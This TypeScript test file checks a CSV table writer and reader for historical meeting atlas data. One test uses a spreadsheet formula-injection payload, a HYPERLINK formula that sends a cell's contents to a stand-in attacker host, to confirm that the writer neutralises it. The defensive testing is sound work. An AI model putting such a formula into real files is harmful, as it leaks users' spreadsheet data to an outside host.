import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { writeTable } from '../../../../src/core/formats/table/write.js';
import { anyAtlasData } from '../../samples/any-atlas.js';
import { dataOf, meetingOf, personOf, placeOf } from '../../samples/build.js';
import { firstAtlas, lost, textOf, withPart } from '../../samples/writable.js';
import { readTable } from '../reading.js';

describe('writeTable', () => {
  it('keeps buildings, and sources with and without an address', () => {
    const written = writeTable(withPart);
    const { losses } = written;
    const text = textOf(written);
    expect(losses).toEqual([]);
    const { value, issues } = readTable(text);
    expect(issues.map(({ code }) => code)).toEqual(['coordinates-missing']);
    expect(value).toEqual(withPart);
  });

  it('states how its cells are read, where they would be read differently without it', () => {
    const names = ['Lie|Moe', 'Ida Vik & Per Lie', 'Jo Berg'];
    const data = dataOf({
      people: names.map((name) => personOf(name, name)),
      meetings: [meetingOf('m', { when: '1850', people: names })],
    });
    const text = textOf(writeTable(data));
    expect(text.split('\r\n').slice(0, 2)).toEqual([
      '# parley: people:separator=semicolon',
      'id,meeting,date,place,lat,lon,people',
    ]);
    const { value, issues } = readTable(text);
    expect(value.people.map(({ name }) => name)).toEqual(names);
    expect(issues).toEqual([]);
    expect(textOf(writeTable(value))).toBe(text);
  });

  it('keeps a side whose name has the word of an office', () => {
    const data = dataOf({
      sides: [{ id: 'c', name: 'Council of Ministers' }],
      people: [personOf('ida', 'Ida', 'c')],
      meetings: [meetingOf('m', { when: '1850', people: ['ida'] })],
    });
    const { value } = readTable(textOf(writeTable(data)));
    expect(value.sides).toMatchObject([{ name: 'Council of Ministers' }]);
    expect(value.people[0]?.side).toBe('council-of-ministers');
  });

  it('has the columns that users fill in, and no other empty ones', () => {
    const written = writeTable(dataOf({ meetings: [meetingOf('a', { when: '2018' })] }));
    const [headings] = textOf(written).split('\r\n');
    expect(headings).toBe('id,meeting,date,place,lat,lon,people');
  });

  it('protects cells from being taken for formulas, and the reader removes the protection', () => {
    const formula = '=HYPERLINK("https://evil.example?"&A1,"x")';
    const data = dataOf({
      places: [placeOf('at-place', '@place', { coordinates: [-70.5, -33.5] })],
      people: [personOf('1-person', '+1 Person')],
      meetings: [meetingOf('m', { title: formula, people: ['1-person'], places: ['at-place'], note: '-2+3' })],
    });
    const text = textOf(writeTable(data));
    const cells = text.split('\r\n')[1] ?? '';
    expect(cells).toContain(`"'=HYPERLINK(""`);
    expect(cells).toContain(",'@place,-33.5,-70.5,'+1 Person,'-2+3");
    const { meetings, places, people } = readTable(text).value;
    expect(meetings[0]).toMatchObject({ title: formula, note: '-2+3' });
    expect(places[0]).toMatchObject({ name: '@place', coordinates: [-70.5, -33.5] });
    expect(people[0]?.name).toBe('+1 Person');
  });

  it('lists what it cannot hold from the first atlas', () => {
    const { losses } = writeTable(firstAtlas);
    expect(new Set(losses.map(({ code }) => code))).toEqual(new Set(['not-held']));
    expect(lost(losses)).toEqual(
      expect.arrayContaining(['title (en)', 'meetings.claims', 'topics.positions', 'people.name (ko)', 'sources.date']),
    );
    expect(lost(losses)).not.toContain('meetings');
    expect(lost(losses)).not.toContain('meetings.when');
    expect(lost(losses)).not.toContain('meetings.topics');
    const claims = firstAtlas.meetings.reduce((sum, meeting) => sum + meeting.claims.length, 0);
    expect(losses.find(({ path }) => path === 'meetings.claims')?.found).toBe(String(claims));
  });

  it('never loses a meeting, and lists every change of a title or date', () => {
    fc.assert(
      fc.property(anyAtlasData, (data) => {
        const written = writeTable(data);
        const { losses } = written;
        const text = textOf(written);
        const back = readTable(text).value;
        expect(back.meetings.map(({ id }) => id)).toEqual(data.meetings.map(({ id }) => id));
        for (const [index, meeting] of data.meetings.entries()) {
          const after = back.meetings[index];
          if (meeting.when?.edtf !== after?.when?.edtf) expect(lost(losses)).toContain('meetings.when');
          const isSameTitle = typeof meeting.title !== 'string' || meeting.title === after?.title;
          if (!isSameTitle) expect(lost(losses)).toContain('meetings.title');
          if (meeting.places.length !== after?.places.length) {
            expect(lost(losses).some((path) => path.startsWith('meetings.places') || path === 'places')).toBe(true);
          }
        }
      }),
    );
  });

  it('writes texts in the given language', () => {
    expect(textOf(writeTable(firstAtlas, { lang: 'ko' }))).toContain('판문점');
    expect(textOf(writeTable(firstAtlas))).toContain('Panmunjeom');
  });
});
